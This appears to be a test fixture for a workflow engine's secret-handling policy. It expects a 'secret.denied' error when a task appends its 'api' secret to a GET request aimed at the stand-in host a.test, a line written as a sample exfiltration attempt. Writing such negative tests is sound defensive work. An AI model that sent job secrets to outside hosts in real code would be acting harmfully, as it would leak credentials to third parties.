-- expect: secret.denied at work line 5 saying "may go to"
-- The token of its own job, sent elsewhere.
return flow "secret_token" {
    task "work" (function(s, ctx)
        return ctx.http.get("https://a.test/?t=" .. ctx.secret "api").body
    end),
}
